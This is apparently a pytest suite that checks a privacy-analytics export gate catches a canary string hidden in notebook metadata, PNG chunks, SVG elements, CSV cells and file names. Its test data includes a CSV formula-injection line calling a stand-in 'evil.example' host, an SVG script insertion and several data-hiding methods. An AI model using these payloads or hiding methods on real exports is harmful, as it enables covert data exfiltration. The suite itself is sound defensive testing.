"""Attacks on files that leave beside a page: places of a notebook, a picture, a table where a canary could hide.

Each test is named after its row of the list of attacks. It plants the canary, sees it held back, then switches that
control off and sees the canary get out: so it is this control that holds it, and the test can fail.
"""

import base64
import json
import re
import struct
import zlib

import nbformat
import pytest
from staged import (
    CANARY,
    LEFT,
    RELEASE,
    SPEC,
    TABLE,
    findings,
    handed_on,
    held_by,
    holds,
    made_release,
    nothing,
    passes,
)

from privacy_analytics import gate
from privacy_analytics.exports import tables as exported
from privacy_analytics.exports import to_csv, to_png, to_svg
from privacy_analytics.gate import Vouched, notebook, pictures, tables


def _in_output(key, value):
    def spoil(book):
        book["cells"][3]["outputs"][0][key] = value

    return spoil


def _in_cell(number, key, value):
    def spoil(book):
        book["cells"][number][key] = value

    return spoil


def _more_output(output):
    return lambda book: book["cells"][3]["outputs"].append(json.loads(json.dumps(output)))


HIDDEN = {
    "collapsed cell": _in_cell(3, "metadata", {"collapsed": True, "note": CANARY}),
    "hidden source": _in_cell(3, "metadata", {"jupyter": {"source_hidden": True, CANARY: 1}}),
    "cell metadata": _in_cell(0, "metadata", {"slideshow": {"slide_type": CANARY}}),
    "tags": _in_cell(3, "metadata", {"tags": [CANARY]}),
    "timings": _in_cell(3, "metadata", {"execution": {"iopub.execute_input": CANARY}}),
    "attachment": _in_cell(0, "attachments", {"a.txt": {"text/plain": base64.b64encode(CANARY.encode()).decode()}}),
    "execution count": _in_cell(3, "execution_count", int.from_bytes(b"Quux")),
    "output metadata": _in_output("metadata", {"isolated": CANARY}),
    "text beside a figure": _in_output("data", {"text/html": TABLE, "text/plain": CANARY}),
    "chart specification": _in_output("data", {"text/html": TABLE, "application/vnd.vegalite.v5+json": {"d": CANARY}}),
    "widget view": _in_output(
        "data", {"text/html": TABLE, "application/vnd.jupyter.widget-view+json": {"model_id": CANARY}}
    ),
    "widget state": lambda book: book["metadata"].update(widgets={"state": CANARY}),
    "papermill metadata": lambda book: book["metadata"].update(papermill={"parameters": {"who": CANARY}}),
    "author": lambda book: book["metadata"].update(authors=[{"name": CANARY}]),
    "kernel name": lambda book: book["metadata"]["kernelspec"].update(display_name=CANARY),
    "format": lambda book: book.update({"orig_nbformat": CANARY}),
    "printed": _more_output(LEFT[0]),
    "error": _more_output(nbformat.v4.new_output("error", ename="E", evalue=CANARY, traceback=[CANARY])),
    "result": _more_output(LEFT[2]),
}


@pytest.mark.parametrize("place", HIDDEN)
def test_hidden_outputs_metadata_attachments_and_widget_state(place, store, tmp_path, monkeypatch):
    book = json.loads(handed_on())
    HIDDEN[place](book)
    data = notebook._text(book)
    assert place == "execution count" or holds(data, tmp_path, "report.ipynb")
    monkeypatch.setattr(notebook, "identities", nothing)  # the second look would find some of them, too
    assert {finding.rule for finding in findings("report.ipynb", data, store)} & {"keys", "readable"}
    monkeypatch.setattr(notebook, "_differences", nothing)
    left = {finding.rule for finding in findings("report.ipynb", data, store)}
    assert left <= {"fragments", "readable"}  # those that show HTML of their own have a second control


def test_a_key_that_stands_twice(store, monkeypatch):
    data = handed_on().replace(b'"nbformat": 4,', f'"nbformat": "{CANARY}",\n "nbformat": 4,'.encode())
    held_by("keys", "report.ipynb", data, store)
    monkeypatch.setattr(notebook, "_differences", nothing)
    assert passes("report.ipynb", data, store)


# file metadata; PNG text; SVG files; CSV formulas; file names


@pytest.fixture(scope="module")
def png(store):
    return to_png(SPEC, store)


@pytest.fixture(scope="module")
def svg(store):
    return to_svg(SPEC, store)


def _chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


PNG = {
    "text": _chunk(b"tEXt", b"Author\0" + CANARY.encode()),
    "compressed text": _chunk(b"zTXt", b"Author\0\0" + zlib.compress(CANARY.encode())),
    "international text": _chunk(b"iTXt", b"Title\0\0\0\0\0" + CANARY.encode()),
    "EXIF": _chunk(b"eXIf", b"MM\0*" + CANARY.encode()),
    "profile": _chunk(b"iCCP", b"p\0\0" + zlib.compress(CANARY.encode())),
    "time": _chunk(b"tIME", bytes(7)),
    "private": _chunk(b"juNk", CANARY.encode()),
}


@pytest.mark.parametrize("place", [*PNG, "behind the end"])
def test_file_metadata_of_a_png(place, png, store, monkeypatch):
    vouched = Vouched(drawn_from=SPEC)
    behind = place == "behind the end"
    spoiled = png + _chunk(b"IDAT", CANARY.encode()) if behind else png[:33] + PNG[place] + png[33:]
    held_by("chunks", "chart.png", spoiled, store, vouched)
    monkeypatch.setattr(pictures, "png_of", lambda *_: spoiled)
    assert not passes("chart.png", spoiled, store, vouched)  # each of the two controls holds it alone
    monkeypatch.setattr(pictures, "foreign", lambda _: False)
    assert passes("chart.png", spoiled, store, vouched) or behind


SVG = {
    "title": ("<title>", f"<title>{CANARY} "),
    "description": ("<desc>", f"<desc>{CANARY} "),
    "comment": ("<rect", f"<!-- {CANARY} --><rect"),
    "data- attribute": ("<rect", f'<rect data-note="{CANARY}"'),
    "CSS": ("<style>", f"<style>/* {CANARY} */"),
    "metadata": ("<rect", f"<metadata>{CANARY}</metadata><rect"),
    "script": ("<rect", f"<script>'{CANARY}'</script><rect"),
    "text": ("Chat", CANARY),
}


@pytest.mark.parametrize("place", SVG)
def test_svg_files(place, svg, store, tmp_path, monkeypatch):
    spoiled = svg.decode().replace(*SVG[place], 1).encode()
    assert holds(spoiled, tmp_path, "chart.svg")
    held_by("bytes", "chart.svg", spoiled, store)
    monkeypatch.setattr(pictures, "_again", lambda *_: spoiled)
    assert passes("chart.svg", spoiled, store) or place in ("comment", "script")
    monkeypatch.setattr(pictures, "_ACTIVE", re.compile(r"(?!)"))
    assert passes("chart.svg", spoiled, store)


def test_csv_formulas(store, monkeypatch):
    formula = f'=HYPERLINK("//evil.example/{CANARY}")'
    bad = made_release("x", {formula: 900.0})
    assert b"\n'=HYPER" in to_csv(bad).replace(b'"', b"")
    spoiled = to_csv(RELEASE).replace(b"\nchat,", f'\n"{formula}",'.encode())
    held_by("bytes", "features.csv", spoiled, store)
    monkeypatch.setattr(exported, "_safe", lambda text: text)
    assert b"\n=HYPER" in to_csv(bad).replace(b'"', b"")
    monkeypatch.setattr(tables, "to_csv", lambda _: spoiled)
    assert passes("features.csv", spoiled, store)


@pytest.mark.parametrize("line", [b"sep=;\n", b"\xef\xbb\xbf", b"# by Zanzibar Quux Ferrule\n", b"\0"])
def test_csv_with_a_separator_line_a_mark_or_a_comment(line, store):
    held_by("bytes", "features.csv", line + to_csv(RELEASE), store)


@pytest.mark.parametrize(
    "name", ["zanzibar-quux-ferrule.csv", "zanzibarquux_ferrule.csv", "WmFuemliYXIgUXV1eCBGZXJydWxl.csv"]
)
def test_file_names(name, store, monkeypatch):
    vouched = Vouched(canaries=(CANARY, "zanzibar-quux-ferrule", "zanzibarquux_ferrule"))
    held_by("name", name, to_csv(RELEASE), store, vouched)
    monkeypatch.setattr(gate, "has_canary", lambda *_: False)
    monkeypatch.setattr(gate, "_NAME", re.compile(".*"))
    assert passes(name, to_csv(RELEASE), store, vouched)
